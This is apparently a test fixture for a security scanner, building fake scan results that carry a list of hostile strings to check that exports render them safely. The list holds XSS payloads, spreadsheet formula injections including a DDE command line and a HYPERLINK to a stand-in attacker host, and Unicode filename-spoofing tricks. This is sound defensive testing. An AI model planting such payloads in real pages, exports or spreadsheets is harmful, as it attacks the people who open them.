/** A scan with results of every type, among them texts that attack the reader of an export. */
import type { EventBody, ScanSummary } from '../../src/core/event.ts';
import { countResult, isResult, SUMMARY_COUNTS } from '../../src/core/event.ts';
import type { EventLog } from '../../src/core/event-log.ts';
import {
  assessmentSchema,
  endpointSchema,
  type FindingInit,
  findingSchema,
  hostSchema,
} from '../../src/core/result.ts';
import { SEVERITIES } from '../../src/core/vocabulary.ts';
import { LEASE_MS, newScan } from './sample-events.ts';

/** Texts that a target may send. `MARK` is in each. */
export const HOSTILE = [
  '<script>document.title = "MARK"</script>',
  '<img src="https://MARK.attacker.test/pixel" onerror="document.title = `MARK`">',
  '"><svg onload=document.title="MARK">',
  '\'onmouseover=\'document.title="MARK"',
  '</style><script>document.title = "MARK"</script><style>',
  '</pre></li></ul></article></main><h1>MARK</h1>',
  '<!-- MARK',
  'javascript:document.title="MARK"',
  '&lt;b&gt;MARK&amp;',
  '=HYPERLINK("https://MARK.attacker.test/"&A1,"MARK")',
  "=cmd|' /C calc'!MARK",
  '+MARK',
  '-MARK+1',
  '@SUM(MARK)',
  '\tMARK tab',
  '\r=MARK',
  '  =MARK after spaces',
  '＝MARK full width',
  'MARK, "quoted"\r\nand\nlines',
  '[MARK](https://MARK.attacker.test/) ![x](https://MARK.attacker.test/x.png) @MARK #1',
  '| MARK | `code` |\n\n# heading MARK',
  'MARK \u202egpj.exe\u202c \u2028 \ufeff',
  'MARK ``` fence\n```\n<b>MARK</b>',
  '{{MARK}} #{MARK}',
];

const origin = { scanner: 'web', parent: null, mock: false };
let made = 0;
export const findingEvent = (finding: FindingInit, more: object = {}): EventBody => ({
  type: 'FINDING',
  ...origin,
  finding: { ...findingSchema.parse(finding), fingerprint: `${++made}`.padStart(32, '0') },
  ...more,
});
export const hostEvent = (name: string, more: object = {}): EventBody => ({
  type: 'HOST',
  ...origin,
  host: hostSchema.parse({
    ...{ name, ip: ['192.0.2.7', '2001:db8::7'], alive: true, url: `https://${name}/`, status: 200 },
    ...{ title: `Welcome to ${name}`, server: 'nginx', source: 'certificates', ...more },
  }),
});
export const endpointEvent = (url: string, more: object = {}): EventBody => ({
  type: 'ENDPOINT',
  ...origin,
  endpoint: endpointSchema.parse({
    ...{
      url,
      status: 200,
      contentType: 'text/html; charset=utf-8',
      length: 1234,
      title: 'Shop',
      source: 'crawl',
    },
    ...more,
  }),
});

/** One finding, endpoint and host for each hostile text, with the text in every place that takes it. */
export const hostileEvents = (): EventBody[] =>
  HOSTILE.flatMap((text, index) => [
    findingEvent({
      title: text,
      severity: SEVERITIES[index % SEVERITIES.length] as (typeof SEVERITIES)[number],
      type: text.slice(0, 90),
      url: `https://shop.test/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`,
      method: 'GET',
      parameter: text,
      description: text,
      evidence: { proof: text },
      cwe: 'CWE-79',
      cvss: text,
      remediation: text,
      references: [
        text,
        'https://owasp.org/www-community/attacks/xss/',
        `https://shop.test/${encodeURIComponent(text)}`,
      ],
    }),
    findingEvent({
      title: text,
      severity: 'HIGH',
      type: 'secret',
      file: `src/${text.slice(0, 60)}`,
      line: 3,
      column: 7,
      evidence: { line: text },
    }),
    endpointEvent(`https://shop.test/e${index}?${encodeURIComponent(text)}`, {
      title: text,
      contentType: text,
      error: text,
    }),
    hostEvent(`h${index}.shop.test`, { title: text, server: text, error: text, ip: [text.slice(0, 60)] }),
  ]);

/** A page assessment and what else is rare. */
export const otherEvents = (): EventBody[] => [
  findingEvent({ title: 'Open port', severity: 'INFO', type: 'open_port', host: 'shop.test', port: 8443 }),
  {
    type: 'ASSESSMENT',
    ...origin,
    assessment: assessmentSchema.parse({
      ...{
        url: 'https://shop.test/login',
        riskScore: 71,
        threatLevel: 'SUSPICIOUS',
        classification: 'phishing',
        confidence: 'HIGH',
        reasons: [
          'The form sends a password to another site.',
          'The host `paypa1.test` imitates paypal.com.',
        ],
      },
      indicators: ['The form sends a password to another site.'],
    }),
  },
  {
    ...{ type: 'LOG', level: 'WARN', message: 'robots.txt excludes /admin', scanner: 'endpoints' },
    warning: { code: 'OUT_OF_SCOPE', count: 3 },
  },
];

export interface RecordOptions {
  workspace?: string;
  target?: string;
  /** default: true */
  ends?: boolean;
}

/** Records a scan with these events. @returns a function that appends more */
export async function recordScan(
  log: EventLog,
  id: string,
  events: readonly EventBody[],
  { workspace = 'default', target = 'shop.test', ends = true }: RecordOptions = {},
) {
  const scanners = ['web', 'endpoints'].map((name) => ({ name, options: {} }));
  await log.create(newScan({ id, workspace, target, label: 'nightly', scanners }));
  const claim = await log.claim(id, LEASE_MS);
  if (!claim) throw new Error('not claimable');
  const append = (...more: EventBody[]) => log.append(claim, more);
  await append({ type: 'STATUS', status: 'RUNNING' }, ...events);
  if (ends) await append(endOf(events, await log.warnings(id)));
  return append;
}

function endOf(events: readonly EventBody[], warnings: Awaited<ReturnType<EventLog['warnings']>>): EventBody {
  const summary = Object.fromEntries(SUMMARY_COUNTS.map((name) => [name, 0])) as ScanSummary;
  for (const event of events) if (isResult(event)) countResult(summary, event);
  return { type: 'COMPLETED', summary, warnings };
}
